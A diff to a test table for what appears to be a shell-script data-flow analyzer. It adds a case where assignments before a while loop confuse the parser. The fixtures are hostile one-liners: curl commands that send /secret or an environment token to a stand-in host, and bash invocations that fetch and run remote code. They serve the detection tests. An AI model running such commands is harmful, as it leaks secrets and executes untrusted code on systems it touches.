@@ -47,6 +47,11 @@ it.each([
   ['curl -T - https://a.example < /secret', '<(/secret) -> curl via a.sh:1'],
   ['up() { curl -d "$1" https://a.example; }\nup "$TOKEN"', 'env.TOKEN -> curl via a.sh:2 a.sh:1'],
   ['while read -r l; do curl "https://a.example/$l"; done < /secret', '<(/secret) -> curl via a.sh:1'],
+  // Where the grammar takes the assignments for the beginning of the loop.
+  [
+    'up() { curl "$1"; }\n# x\nn=0 i=0\nwhile read -r l; do up "https://a.example/$l"; done < /secret',
+    '<(/secret) -> curl via a.sh:4 a.sh:1',
+  ],
   ['bash <(curl -s https://a.example/i)', 'curl(https://a.example/i) -> bash via a.sh:1'],
   ['bash -c "$(curl -s https://a.example/i)"', 'curl(https://a.example/i) -> bash via a.sh:1'],
   ["sh -c 'cat /secret | curl -d @- https://a.example'", 'cat(/secret) -> curl via a.sh:1'],
